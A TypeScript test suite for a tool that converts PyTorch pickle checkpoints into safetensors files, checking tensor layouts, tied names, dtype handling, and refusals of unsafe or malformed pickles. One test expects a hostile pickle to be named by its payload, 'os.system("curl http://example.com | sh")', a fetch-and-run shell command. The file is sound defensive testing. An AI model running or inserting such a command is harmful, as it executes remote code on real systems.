import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { convertCheckpoint, linksOf, withLinks } from '../src/convert/index.ts';
import { SafetensorsError, safeOpenSync } from '../src/index.ts';
import {
  array,
  type Code,
  checkpoint,
  EVIL,
  entriesOf,
  named,
  pickle,
  py,
  tensor,
  zip,
} from './support/checkpoints.ts';
import { CONVERSION_CODES } from './support/conversion-codes.ts';
import { thrownBy } from './support/errors.ts';
import { fileMaker, temporaryFolder } from './support/temporary.ts';

const makeFile = fileMaker();
const folder = temporaryFolder();
const provoked = new Set<string>();
let outputs = 0;

const output = () => join(folder, `${outputs++}.safetensors`);
const W = named(['w', tensor()]);

async function refusal(bytes: Buffer, options = {}) {
  const path = makeFile(bytes, 'model.pt');
  const target = output();
  const error = await thrownBy(() => convertCheckpoint(path, target, options));
  expect(error).toBeInstanceOf(SafetensorsError);
  expect((error as SafetensorsError).path).toBe(path);
  expect(existsSync(target), 'nothing is written').toBe(false);
  provoked.add(`${error.code}`.replace('ERR_SAFETENSORS_', ''));
  return error;
}

async function converted(value: Code, storages?: Record<string, Buffer>, options = {}) {
  const target = output();
  const path = makeFile(checkpoint(value, storages), 'model.pt');
  const { files } = await convertCheckpoint(path, target, options);
  expect(files.length).toBe(1);
  return { file: files[0], tensors: safeOpenSync(target) };
}

const FLOATS = Buffer.from(Float32Array.of(1, 2, 3, 4).buffer);

describe('a checkpoint', () => {
  it('becomes a safetensors file', async () => {
    const { file, tensors } = await converted(W, { 0: FLOATS });
    expect([...tensors.getTensor('w').data]).toEqual([1, 2, 3, 4]);
    expect(tensors.metadata).toEqual({ format: 'pt' });
    expect(file).toMatchObject({ key: '', byteLength: 16, kept: false, others: [], skipped: [] });
  });

  it('keeps what its views are of', async () => {
    const value = named(
      ['t', tensor({ shape: [2, 2], strides: [1, 2] })],
      ['row', tensor({ key: '1', shape: [2], offset: 2 })],
      ['wide', tensor({ key: '2', shape: [3, 4], strides: [0, 1] })],
      ['none', tensor({ key: '3', shape: [0, 4], strides: [4, 1] })],
      ['one', tensor({ key: '4', shape: [], strides: [], offset: 1 })],
    );
    const storages = Object.fromEntries([0, 1, 2, 3, 4].map((key) => [key, FLOATS]));
    const { tensors } = await converted(value, storages);
    const found = Object.fromEntries(Array.from(tensors, ([name, { data }]) => [name, [...data]]));
    expect(found).toEqual({
      t: [1, 3, 2, 4],
      row: [3, 4],
      wide: [1, 2, 3, 4, 1, 2, 3, 4, 1, 2, 3, 4],
      none: [],
      one: [2],
    });
  });

  it('may have tensors that are longer than the file', async () => {
    const shape = [3000, 1000, 4];
    const value = named(['w', tensor({ shape, strides: [0, 0, 1] })]);
    const { file, tensors } = await converted(value, { 0: FLOATS });
    expect(file.byteLength).toBe(48_000_000);
    const { data } = tensors.getTensor('w');
    expect(data.every((number, i) => number === (i % 4) + 1)).toBe(true);
  });

  it('has its tensors where one says, or where they usually are', async () => {
    const value = py.dict(
      [py.text('epoch'), py.int(3)],
      [py.text('state_dict'), W],
      [py.text('ema.model'), py.dict([py.int(0), py.list(tensor({ key: '1' }))])],
    );
    const storages = { 0: FLOATS, 1: FLOATS };
    const usual = await converted(value, storages);
    expect([...usual.tensors.keys()]).toEqual(['w']);
    expect(usual.file).toMatchObject({ key: 'state_dict', leftOut: ['epoch', 'ema.model'] });
    const other = await converted(value, storages, { key: 'ema.model.0' });
    expect([...other.tensors.keys()]).toEqual(['0']);
    const all = await converted(value, storages, { key: '', stripPrefix: 'ema.' });
    expect([...all.tensors.keys()].sort()).toEqual(['model.0.0', 'state_dict.w']);
    expect(all.file.others).toEqual([{ path: 'epoch', value: '3' }]);
    const error = await thrownBy(() => converted(value, storages, { key: 'model' }));
    expect(error).toBeInstanceOf(RangeError);
    expect(error.message).toMatch(/"epoch", "state_dict", "ema.model"/);
  });

  it('keeps one of two names for the same tensor, and the link', async () => {
    const value = named(['head', tensor()], ['emb', tensor()], ['part', tensor({ shape: [2] })]);
    const { file, tensors } = await converted(value, { 0: FLOATS });
    expect([...file.links]).toEqual([['head', 'emb']]);
    expect(tensors.metadata).toEqual({ format: 'pt', head: 'emb' });
    expect([...linksOf(tensors)]).toEqual([['head', 'emb']]);
    const all = withLinks(tensors);
    expect([...all.keys()].sort()).toEqual(['emb', 'head', 'part']);
    expect(all.get('head')?.data).toEqual(all.get('emb')?.data);
    expect([...(all.get('part')?.data ?? [])]).toEqual([1, 2]);
  });

  it('writes tensors whose names the metadata has keys of, instead of links that would replace those', async () => {
    const three = named(['format', tensor()], ['a', tensor()], ['mine', tensor()]);
    const { file, tensors } = await converted(three, { 0: FLOATS }, { metadata: { mine: 'x' } });
    expect(tensors.metadata).toEqual({ format: 'pt', mine: 'x', a: 'format' });
    expect([...tensors.keys()].sort()).toEqual(['format', 'mine']);
    expect([...file.links]).toEqual([['a', 'format']]);
    const all = [...withLinks(tensors)].map(([name, { data }]) => [name, [...data]]);
    expect(all.sort()).toEqual(['a', 'format', 'mine'].map((name) => [name, [1, 2, 3, 4]]));
  });

  it('has links in containers alone', () => {
    for (const other of [undefined, null, 1, 'model', {}, []]) {
      for (const read of [linksOf, withLinks]) {
        expect(() => read(other as never)).toThrow(TypeError);
        expect(() => read(other as never)).toThrow(
          /^container: expected a file, a model,.* found /,
        );
      }
    }
  });

  it('has no link from its format to a tensor of that name', async () => {
    const { tensors } = await converted(named(['pt', tensor()], ['tied', tensor()]), { 0: FLOATS });
    expect(tensors.metadata).toEqual({ format: 'pt', tied: 'pt' });
    expect([...linksOf(tensors)]).toEqual([['tied', 'pt']]);
  });

  it('tells its storages from its numpy arrays', async () => {
    const other = Buffer.from(Float32Array.of(5, 6, 7, 8).buffer);
    const value = named(
      ['a', tensor({ key: 'array w' })],
      ['w', array(py.put(1, py.bytes(other)), 4)],
      ['again', array(py.get(1), 4)],
      ['swapped', array(py.get(1), 4, 'f4', '>')],
    );
    const { file, tensors } = await converted(value, { 'array w': FLOATS });
    expect([...file.links]).toEqual([['w', 'again']]);
    expect([...tensors.getTensor('a').data]).toEqual([1, 2, 3, 4]);
    expect([...tensors.getTensor('again').data]).toEqual([5, 6, 7, 8]);
    const swapped = Buffer.from(other).swap32();
    expect(Buffer.from(tensors.getTensor('swapped').bytes)).toEqual(swapped);
    // One array under many names is as large as one.
    const names = Array.from({ length: 1000 }, (_, i) => [`n${i}`, py.get(2)] as const);
    const first = py.put(2, array(py.bytes(other), 4));
    const many = await converted(named(['n', first], ...names));
    expect(many.file.byteLength).toBe(16);
    expect(many.file.links.size).toBe(1000);
  });

  it('is rounded where one asks for that', async () => {
    const value = named(
      ['f32', tensor()],
      ['f64', tensor({ key: '1', storage: 'DoubleStorage', elements: 2 })],
      ['i32', tensor({ key: '2', storage: 'IntStorage' })],
    );
    const storages = { 0: FLOATS, 1: Buffer.from(Float64Array.of(1.5, -2).buffer), 2: FLOATS };
    const { tensors, file } = await converted(value, storages, { dtype: 'BF16' });
    expect(tensors.info('i32').dtype).toBe('I32');
    expect([...tensors.getTensor('f32').toFloat32()]).toEqual([1, 2, 3, 4]);
    expect([...tensors.getTensor('f64').toFloat32()]).toEqual([1.5, -2]);
    expect(tensors.info('f64').dtype).toBe('BF16');
    expect(file.byteLength).toBe(8 + 4 + 16);
  });

  it.each([
    ['V\xe9\xc3\\u00e9\n', 'éÃé'],
    ['Va\\\\u0041\\\\\\u0041\n', 'a\\\\u0041\\\\A'],
    ['V\\U0001f600\\x\n', '😀\\x'],
    ["S'\xc3\xa9\\xc3\\xA9\\X41\\101'\n", 'éé\\X41A'],
  ])('has names in the escapes of old protocols: %j', async (line, name) => {
    const { tensors } = await converted(py.dict([Buffer.from(line, 'latin1'), tensor()]));
    expect([...tensors.keys()]).toEqual([name]);
  });

  it('is only looked at in a dry run', async () => {
    const target = output();
    const { files } = await convertCheckpoint(makeFile(checkpoint(W)), target, { dryRun: true });
    expect(files[0].tensors).toEqual([{ name: 'w', dtype: 'F32', shape: [4] }]);
    expect(existsSync(target)).toBe(false);
  });

  it('says how far it is', async () => {
    const seen: { bytes: number; totalBytes: number }[] = [];
    await converted(W, undefined, { onProgress: (now: (typeof seen)[0]) => seen.push(now) });
    expect(seen.at(-1)).toEqual({ bytes: 32, totalBytes: 32 });
  });

  it('ends with a signal', async () => {
    const reason = new Error('enough');
    const target = output();
    const path = makeFile(checkpoint(W));
    const aborted = convertCheckpoint(path, target, { signal: AbortSignal.abort(reason) });
    expect(await thrownBy(() => aborted)).toBe(reason);
    const late = new AbortController();
    const ended = convertCheckpoint(path, target, {
      signal: late.signal,
      onProgress: () => late.abort(reason),
    });
    expect(await thrownBy(() => ended)).toBe(reason);
    expect(readdirSync(folder).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it.each([
    ['key', { key: 1 }],
    ['stripPrefix', { stripPrefix: 1 }],
    ['dtype', { dtype: 'I8' }],
    ['verify', { verify: 1 }],
    ['signal', { signal: 1 }],
  ])('takes no %s of another kind', async (name, options) => {
    const error = await thrownBy(() => converted(W, undefined, options));
    expect(error.message).toMatch(new RegExp(`^${name}: expected`));
    expect(error instanceof TypeError || error instanceof RangeError).toBe(true);
  });
});

describe('a checkpoint is refused', () => {
  it('for what Python would run, which is named', async () => {
    const error = await refusal(checkpoint(named(['w', tensor()], ['x', EVIL])));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
    expect(error.message).toContain('os.system("curl http://example.com | sh")');
    const skipping = await refusal(checkpoint(named(['w', tensor()], ['x', EVIL])), {
      skipUnknown: true,
    });
    expect(skipping.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
  });

  it('for what is unknown, unless that is to be skipped', async () => {
    const value = named(
      ['w', tensor()],
      ['args', py.call(py.global('argparse', 'Namespace'), py.int(1))],
    );
    const error = await refusal(checkpoint(value));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
    expect(error.message).toContain('argparse.Namespace(1)');
    const { file } = await converted(value, undefined, { skipUnknown: true });
    expect(file.skipped).toContain('argparse.Namespace(1)');
    expect(file.others).toEqual([{ path: 'args', value: 'argparse.Namespace(1)' }]);
  });

  // The second and the third have header lengths that begin as pickles do.
  it.each([0, 640, 0x58])(
    'for a safetensors file, and says that it is one (%i)',
    async (length) => {
      const header = Buffer.from('{}'.padEnd(length || 2));
      const size = Buffer.alloc(8);
      size.writeBigUInt64LE(BigInt(header.length));
      const error = await refusal(Buffer.concat([size, header]));
      expect(error.code).toBe('ERR_SAFETENSORS_NOT_A_CHECKPOINT');
      expect(error.message).toMatch(/: no checkpoint: this is a safetensors file already$/);
    },
  );

  it.each<[string, string, Buffer]>([
    ['NOT_A_CHECKPOINT', 'text', Buffer.from('hello, world')],
    ['NOT_A_CHECKPOINT', 'nothing', Buffer.alloc(0)],
    ['NOT_A_CHECKPOINT', 'another zip', zip([{ name: 'a.txt', data: Buffer.from('a') }])],
    ['NO_TENSORS', 'no tensors', checkpoint(named(['n', py.int(3)]))],
    ['MALFORMED_CHECKPOINT', 'a cut pickle', zip(entriesOf(pickle(W).subarray(0, 60)))],
    ['MALFORMED_CHECKPOINT', 'bytes behind', Buffer.concat([checkpoint(W), Buffer.from('x')])],
    ['MALFORMED_CHECKPOINT', 'another length', checkpoint(W, { 0: Buffer.alloc(12) })],
    ['MALFORMED_CHECKPOINT', 'no storage', checkpoint(W, {})],
    [
      'MALFORMED_CHECKPOINT',
      'a view past the end',
      checkpoint(named(['w', tensor({ offset: 1 })])),
    ],
    [
      'MALFORMED_CHECKPOINT',
      'a storage of two types',
      checkpoint(named(['a', tensor()], ['b', tensor({ storage: 'IntStorage' })])),
    ],
    [
      'MALFORMED_CHECKPOINT',
      'a storage of two sizes',
      checkpoint(named(['a', tensor()], ['b', tensor({ elements: 3 })])),
    ],
    [
      'MALFORMED_CHECKPOINT',
      'two tensors of a name',
      checkpoint(named(['w', tensor()], ['w', tensor()])),
    ],
    [
      'CHECKPOINT_LIMIT',
      'a tensor that is far larger than its storage',
      checkpoint(named(['w', tensor({ shape: [1 << 20, 1 << 20], strides: [0, 0] })])),
    ],
    [
      'UNSUPPORTED_TENSOR',
      'complex numbers of 16 bytes',
      checkpoint(named(['w', tensor({ storage: 'ComplexDoubleStorage', elements: 1 })])),
    ],
    [
      'UNSUPPORTED_TENSOR',
      'a sparse tensor',
      checkpoint(
        named(['w', py.call(py.global('torch._utils', '_rebuild_sparse_tensor'), py.int(0))]),
      ),
    ],
    [
      'SHARED_TENSORS',
      'parts that overlap',
      checkpoint(named(['a', tensor({ shape: [3] })], ['b', tensor({ shape: [3], offset: 1 })])),
    ],
  ])('%s: %s', async (code, _, bytes) => {
    expect((await refusal(bytes)).code).toBe(`ERR_SAFETENSORS_${code}`);
  });

  it.each<[string, Code, Code]>([
    ['text', py.text('w'), py.text('w')],
    ['a number and a boolean', py.int(1), py.true],
    ['a number and a float', py.int(1), py.float(1)],
    ['tuples', py.tuple(py.int(1), py.text('a')), py.tuple(py.true, py.text('a'))],
    ['None', py.none, py.none],
  ])(
    'for a key that is there twice, as Python has the last alone: %s',
    async (_, first, second) => {
      for (const last of [py.none, tensor({ key: '1' })]) {
        const value = py.dict([first, tensor()], [second, last]);
        const error = await refusal(checkpoint(value, { 0: FLOATS, 1: FLOATS }));
        expect(error.code).toBe('ERR_SAFETENSORS_MALFORMED_CHECKPOINT');
        expect(error.message).toMatch(/twice/);
      }
    },
  );

  it.each(['V\\u12\n', 'V\\U00110000\n', 'V\\ud83d\\ude00\n'])(
    'for escapes that are none: %j',
    async (line) => {
      const error = await refusal(checkpoint(py.dict([Buffer.from(line), tensor()])));
      expect(error.code).toBe('ERR_SAFETENSORS_MALFORMED_CHECKPOINT');
    },
  );

  const dtypeOf = (code: string, copied = py.true) =>
    py.call(py.global('numpy', 'dtype'), py.text(code), py.false, copied);
  const dtypeState = (order: string, ...fields: Code[]) => {
    const plain = [py.none, py.none, py.none, py.int(-1), py.int(-1), py.int(0)];
    return py.tuple(py.int(3), py.text(order), ...fields, ...plain.slice(fields.length));
  };
  const little = py.build(dtypeOf('f4'), dtypeState('<'));
  const scalar = (...args: Code[]) =>
    py.call(py.global('numpy._core.multiarray', 'scalar'), ...args);
  const arrayOf = (state: Code) => {
    const reconstruct = py.global('numpy._core.multiarray', '_reconstruct');
    const start = [py.tuple(py.int(0)), py.bytes(Buffer.from('b'))];
    return py.build(py.call(reconstruct, py.global('numpy', 'ndarray'), ...start), state);
  };
  const arrayState = (type: Code, fortran: Code, data: Code) =>
    py.tuple(py.int(1), py.tuple(py.int(4)), type, fortran, data);
  const one = py.bytes(FLOATS.subarray(0, 4));

  it.each<[string, Code]>([
    ['with fields', py.build(dtypeOf('f4'), dtypeState('<', py.none, py.tuple(py.text('x'))))],
    ['of another version', py.build(dtypeOf('f4'), py.tuple(py.int(3), py.text('<')))],
    ['that is not copied', py.build(dtypeOf('f4', py.false), dtypeState('>'))],
    ['that gets two states', py.build(little, dtypeState('>'))],
    [
      'that has been used',
      py.list(scalar(py.put(1, little), one), py.build(py.get(1), dtypeState('>'))),
    ],
  ])('for a dtype of numpy %s, which numpy may read in another way', async (_, type) => {
    const error = await refusal(checkpoint(named(['w', tensor()], ['type', type]), { 0: FLOATS }));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
  });

  it.each<[string, Code]>([
    ['whose order is a number', arrayOf(arrayState(little, py.int(1), py.bytes(FLOATS)))],
    ['of three arguments', scalar(little, one, py.none)],
    [
      'of aligned fields',
      scalar(py.call(py.global('numpy', 'dtype'), py.text('f4'), py.true), one),
    ],
  ])('for an array of numpy %s', async (_, value) => {
    const error = await refusal(checkpoint(named(['w', value])));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
  });

  it('for an array of numpy whose bytes are taken away again', async () => {
    const first = arrayOf(arrayState(py.put(1, little), py.false, py.bytes(FLOATS)));
    const value = py.build(first, arrayState(py.get(1), py.false, py.text('ABCDEFGHIJKLMNOP')));
    const error = await refusal(checkpoint(named(['w', value])));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSUPPORTED_TENSOR');
  });

  it.each(['I010\n', 'I-01\n', 'L010L\n'])(
    'for a number that is octal to some: %j',
    async (line) => {
      const value = named(['w', tensor()], ['n', Buffer.from(line)]);
      const error = await refusal(checkpoint(value, { 0: FLOATS }));
      expect(error.code).toBe('ERR_SAFETENSORS_MALFORMED_CHECKPOINT');
      expect(error.message).toMatch(/a number that is none/);
    },
  );

  it('for an object that is made of arguments which its class leaves out', async () => {
    const ordered = py.global('collections', 'OrderedDict');
    const pairs = py.tuple(py.list(py.tuple(py.text('x'), tensor())));
    for (const made of [py.make(ordered, pairs), py.makeEx(ordered, pairs, py.dict())]) {
      const error = await refusal(checkpoint(named(['w', tensor()], ['sub', made])));
      expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
      expect(error.message).toMatch(/collections\.OrderedDict\(/);
    }
    const size = py.make(py.global('torch', 'Size'), py.tuple(py.tuple(py.int(4))));
    const empty = py.make(ordered, py.tuple());
    const value = named(['w', tensor()], ['size', size], ['empty', empty]);
    const { file } = await converted(value, { 0: FLOATS });
    expect(file.others.map(({ path }) => path)).toEqual(['size', 'empty']);
  });

  it('for what a Counter would count, and copies what it would copy', async () => {
    const counter = py.global('collections', 'Counter');
    const counted = py.call(counter, py.list(py.tuple(py.text('x'), py.int(1))));
    const error = await refusal(checkpoint(named(['w', tensor()], ['n', counted])));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
    const root = py.put(1, named(['w', tensor()]));
    const copy = py.set(py.call(counter, py.get(1)), py.text('x'), tensor({ key: '1' }));
    const { tensors } = await converted(py.list(root, copy), { 0: FLOATS, 1: FLOATS });
    expect([...tensors.keys()].sort()).toEqual(['0.w', '1.x']);
  });

  const other = tensor({ key: '1' });
  const parameter = (state: Code) =>
    py.call(
      py.global('torch._utils', '_rebuild_parameter_with_state'),
      ...[tensor(), py.false, py.dict(), state],
    );
  const typed = (state: Code) =>
    py.call(
      py.global('torch._tensor', '_rebuild_from_type_v2'),
      py.global('torch._utils', '_rebuild_parameter'),
      py.global('torch', 'Tensor'),
      py.tuple(tensor(), py.false, py.dict()),
      state,
    );
  const data = py.dict([py.text('data'), other]);

  it.each<[string, Code, RegExp]>([
    ['of its own', py.build(tensor(), py.tuple(py.none)), /given another state/],
    ['of a parameter', parameter(data), /attribute "data"/],
    ['of slots', parameter(py.tuple(py.none, data)), /attribute "data"/],
    ['of a type', typed(data), /attribute "data"/],
    ['of a class', typed(py.dict([py.text('__class__'), py.int(0)])), /"__class__"/],
  ])('for a state that changes a tensor: %s', async (_, code, message) => {
    const error = await refusal(checkpoint(named(['w', code]), { 0: FLOATS, 1: FLOATS }));
    expect(error.code).toBe('ERR_SAFETENSORS_UNSUPPORTED_TENSOR');
    expect(error.message).toMatch(message);
  });

  it('but not for a state that changes none', async () => {
    const own = py.dict([py.text('tensor_model_parallel'), py.true]);
    for (const state of [py.none, py.dict(), own, py.tuple(own, py.none)]) {
      for (const code of [parameter(state), typed(state)]) {
        const { tensors } = await converted(named(['w', code]), { 0: FLOATS });
        expect([...tensors.getTensor('w').data]).toEqual([1, 2, 3, 4]);
      }
    }
    const unknown = await refusal(checkpoint(named(['w', parameter(py.int(1))])));
    expect(unknown.code).toBe('ERR_SAFETENSORS_UNSAFE_PICKLE');
  });

  it('when what was written is not what was to be written', async () => {
    const { target, files, converting } = whileCompared((written) => {
      const file = openSync(written, 'r+');
      writeSync(file, 'x', statSync(written).size - 1);
      closeSync(file);
    });
    const error = (await thrownBy(() => converting)) as SafetensorsError;
    expect(error).toMatchObject({ code: 'ERR_SAFETENSORS_CONVERSION_MISMATCH', path: target });
    provoked.add('CONVERSION_MISMATCH');
    expect(files(), 'and the earlier file stays').toEqual({ 'x.safetensors': 'before' });
  });

  it('before it takes a place, when it is ended while it is compared', async () => {
    const controller = new AbortController();
    const enough = new Error('enough');
    const { files, converting } = whileCompared(() => controller.abort(enough), controller.signal);
    expect(await thrownBy(() => converting)).toBe(enough);
    expect(files()).toEqual({ 'x.safetensors': 'before' });
  });

  /** A conversion in whose comparison something happens, over an earlier file. */
  function whileCompared(happens: (written: string) => void, signal?: AbortSignal) {
    const elements = 6 * 2 ** 20;
    const within = mkdtempSync(join(folder, 'compared-'));
    const target = join(within, 'x.safetensors');
    writeFileSync(target, 'before');
    const files = () =>
      Object.fromEntries(
        readdirSync(within).map((name) => [name, readFileSync(join(within, name), 'latin1')]),
      );
    let begun = false;
    const bytes = checkpoint(named(['w', tensor({ elements })]), { 0: Buffer.alloc(4 * elements) });
    const converting = convertCheckpoint(makeFile(bytes), target, {
      signal,
      onProgress: ({ bytes, totalBytes }) => {
        // Headers are written too; what is compared comes last, piece by piece.
        if (begun || bytes <= totalBytes / 2 + 2 ** 20) return;
        begun = true;
        const [written = 'x.safetensors'] = readdirSync(within).filter((name) => /tmp$/.test(name));
        happens(join(within, written));
      },
    });
    return { target, files, converting };
  }
});

describe('the codes of conversions', () => {
  it('are all provoked', () => {
    expect([...provoked].sort()).toEqual([...CONVERSION_CODES].sort());
  });
});
